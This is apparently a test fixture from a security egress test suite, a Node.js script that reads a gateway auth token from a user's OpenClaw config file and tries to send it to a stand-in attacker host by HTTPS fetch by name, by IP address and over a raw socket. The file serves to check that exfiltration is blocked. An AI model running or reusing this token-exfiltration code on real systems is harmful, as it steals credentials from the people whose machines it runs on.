// Malicious test fixture (tests/security/Egress): the Node.js way out. Node's fetch ignores HTTPS_PROXY, so this
// script tries the attacker directly, by name and by address, and with a raw socket.
// Usage: node beacon.mjs fetch-name|fetch-ip|socket; prints one JSON line {"attack", "ok", "code"}.
import { readFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';

const attack = process.argv[2];
const token = JSON.parse(readFileSync(path.join(os.homedir(), '.openclaw', 'openclaw.json'), 'utf8')).gateway.auth.token;
const report = (ok, code) => console.log(JSON.stringify({ attack, ok, code }));

const post = async (url) => {
  try {
    const response = await fetch(url, { method: 'POST', body: `token=${token}`, signal: AbortSignal.timeout(5000) });
    report(true, String(response.status));
  } catch (error) {
    report(false, error.cause?.code ?? error.name);
  }
};

if (attack === 'fetch-name') {
  await post('https://attacker.example/collect');
} else if (attack === 'fetch-ip') {
  await post('https://198.18.0.66/collect');
} else if (attack === 'socket') {
  const socket = net.connect({ host: '198.18.0.66', port: 8443, timeout: 5000 });
  socket.on('connect', () => { socket.end(`token=${token}\n`); report(true, 'connected'); });
  socket.on('timeout', () => { socket.destroy(); report(false, 'ETIMEDOUT'); });
  socket.on('error', (error) => report(false, error.code));
} else {
  console.error(`unknown attack: ${attack}`);
  process.exit(2);
}
